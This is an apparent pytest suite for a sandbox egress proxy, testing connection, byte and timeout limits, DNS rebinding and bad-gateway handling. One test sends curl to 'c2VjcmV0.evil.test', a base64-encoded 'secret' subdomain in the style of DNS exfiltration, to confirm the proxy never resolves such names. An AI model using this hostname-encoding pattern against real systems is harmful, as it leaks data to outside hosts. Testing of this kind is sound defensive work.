"""Limits of the proxy: connections, bytes, time; and names that change their mind."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import Iterator, Sequence
from dataclasses import replace
from ipaddress import ip_address, ip_network
from pathlib import Path

import pytest

from cubicle.core.network import NetworkMode
from cubicle.egress.blocked_networks import Address
from cubicle.egress.policy import Policy, Rule
from cubicle.egress.upstream_connections import EgressLimits
from tests.egress.conftest import OPEN, Audit, Behind, shell
from tests.egress.servers import Server, http_server

pytestmark = pytest.mark.anyio


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    (tmp_path / "www").mkdir()
    with http_server(tmp_path / "www") as running:
        yield running


@pytest.fixture
def silent() -> Iterator[int]:
    """A server that accepts and never says a word."""
    with socket.create_server(("127.0.0.1", 0), backlog=64) as sock:
        yield sock.getsockname()[1]


async def until(condition: object, seconds: float = 60.0) -> None:
    async with asyncio.timeout(seconds):
        while not condition():  # type: ignore[operator]
            await asyncio.sleep(0.02)


@pytest.mark.parametrize("way", ["-p", ""])
async def test_a_chat_has_so_many_connections_at_once(
    behind: Behind, silent: int, server: Server, audit: Audit, way: str
) -> None:
    async with behind(replace(OPEN, most_connections=3), limits=EgressLimits(silent=0.3)) as machine:
        hold = f"way={way}; for i in 1 2 3; do curl -sS $way --max-time 60 http://quiet.test:{silent}/ & done; wait"
        async with machine.run(hold) as process:
            await until(lambda: len(audit.of("allowed")) == 3)
            refused = await shell(machine, f"curl -sS --max-time 60 http://web.test:{server.port}/echo")
            assert "more than 3 connections at once" in refused
            await process.kill()
        await until(lambda: len(audit.of("closed")) == 3)
        assert "GET" in await shell(machine, f"curl -sS --max-time 60 http://web.test:{server.port}/echo")
    assert audit.of("denied")[0]["rule"] == "limits"


async def test_a_chat_has_so_many_bytes_a_day(behind: Behind, server: Server, audit: Audit) -> None:
    async with behind(replace(OPEN, most_bytes=5 << 20)) as machine:
        url = f"http://web.test:{server.port}/big?n=50000000"
        for way in ("", "-p"):
            got = await shell(machine, f"curl -s {way} --max-time 60 '{url}' | wc -c")
            assert int(got) < 8 << 20
        assert "5 MiB for the day" in await shell(machine, f"curl -s --max-time 60 http://web.test:{server.port}/echo")
    assert "used up its bytes" in audit.of("closed")[0]["reason"]
    assert audit.of("closed")[0]["down"] < 8 << 20


@pytest.mark.parametrize("way", ["-p", "", "--socks5-hostname $DOOR"])
async def test_a_connection_in_which_nothing_moves_is_cut(behind: Behind, silent: int, audit: Audit, way: str) -> None:
    for idle in (0.4, 4.0, 40.0):  # a busy machine may take longer than that to come as far as the server
        async with behind(limits=EgressLimits(idle=idle)) as machine:
            await shell(machine, f"curl -sS {way} --max-time 100 http://quiet.test:{silent}/")
        if audit.of("closed"):
            break
    assert audit.of("closed")[0]["seconds"] < 60
    assert "nothing moved" in audit.of("closed")[0]["reason"]


async def test_a_caller_that_says_nothing_is_dropped(behind: Behind) -> None:
    program = """
import os, socket
sock = socket.create_connection(("127.0.0.1", int(os.environ["http_proxy"].rpartition(":")[2])))
sock.settimeout(60)
print("end", sock.recv(1))
"""
    async with behind(limits=EgressLimits(idle=0.3)) as machine:
        _, output = await machine.output(["python3", "-c", program], timeout=100)
    assert output == b"end b''\n"


async def test_a_server_that_does_not_answer_is_given_up(behind: Behind, audit: Audit) -> None:
    with socket.socket() as full:
        full.bind(("127.0.0.1", 0))
        full.listen(0)
        port = full.getsockname()[1]
        waiting = [socket.socket() for _ in range(4)]
        for sock in waiting:
            sock.setblocking(False)
            sock.connect_ex(("127.0.0.1", port))
        async with behind(limits=EgressLimits(connect=0.5)) as machine:
            output = await shell(machine, f"curl -sS -i --max-time 60 http://slow.test:{port}/")
        for sock in waiting:
            sock.close()
    assert output.startswith("HTTP/1.1 504 ")
    assert "did not answer within 0.5 s" in output
    assert "did not answer" in audit.of("failed")[0]["reason"]


class Fickle:
    """A name server that answers differently each time."""

    def __init__(self, *answers: list[str]) -> None:
        self.answers = list(answers)
        self.asked: list[str] = []

    async def __call__(self, host: str) -> Sequence[Address]:
        self.asked.append(host)
        return [ip_address(text) for text in self.answers.pop(0)]


TWO = Policy(NetworkMode.OPEN, (Rule("two", networks=(ip_network("127.0.0.2/32"),)),))


async def test_a_name_is_looked_up_once_and_what_was_judged_is_dialled(
    behind: Behind, tmp_path: Path, audit: Audit
) -> None:
    names = Fickle(["127.0.0.2"], ["127.0.0.1"], ["127.0.0.1", "127.0.0.2"])
    with http_server(tmp_path, address="127.0.0.2") as good:
        async with behind(TWO, resolve=names) as machine:
            url = f"http://changing.test:{good.port}/echo"
            assert "GET" in await shell(machine, f"curl -sS {url}")
            assert "closed addresses" in await shell(machine, f"curl -sS {url}")
            assert "GET" in await shell(machine, f"curl -sSp {url}")
    assert names.asked == ["changing.test"] * 3
    assert [line.get("address") for line in audit.of("allowed")] == ["127.0.0.2", "127.0.0.2"]
    assert audit.of("denied")[0]["address"] == "127.0.0.1"


async def test_a_name_that_nothing_allows_is_never_looked_up(behind: Behind, audit: Audit) -> None:
    names = Fickle()
    policy = Policy(NetworkMode.ALLOWLIST, (Rule("a", hosts=("*.good.test",)), *TWO.rules))
    async with behind(policy, resolve=names) as machine:
        for way in ("", "-p", "--socks5-hostname $DOOR"):
            await shell(machine, f"curl -sS {way} http://c2VjcmV0.evil.test/")
    assert names.asked == []
    assert len(audit.of("denied")) == 3


async def test_the_next_address_is_tried_when_one_does_not_answer(behind: Behind, tmp_path: Path) -> None:
    names = Fickle(["127.0.0.3", "127.0.0.2"])
    with http_server(tmp_path, address="127.0.0.2") as good:
        async with behind(OPEN, resolve=names) as machine:
            assert "GET" in await shell(machine, f"curl -sS http://both.test:{good.port}/echo")


async def test_a_server_that_speaks_no_http_is_a_bad_gateway(behind: Behind, audit: Audit) -> None:
    async def babble(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")  # who closes with something unread takes its answer back
        writer.write(b"what do you want?\r\n\r\n")
        writer.close()

    server = await asyncio.start_server(babble, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    async with server, behind() as machine:
        output = await shell(machine, f"curl -sS -i http://odd.test:{port}/")
    assert output.startswith("HTTP/1.1 502 ")
    assert "did not answer as an HTTP server does" in output
    assert "did not answer" in audit.of("closed")[0]["reason"]


async def test_an_answer_that_breaks_off_is_not_taken_for_whole(behind: Behind) -> None:
    async def half(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")  # who closes with something unread takes its answer back
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nhalf")
        writer.close()

    server = await asyncio.start_server(half, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    async with server, behind() as machine:
        exit_, output = await machine.output(f"curl -sS --max-time 60 http://odd.test:{port}/", timeout=100)
    assert exit_.code in (18, 56), output
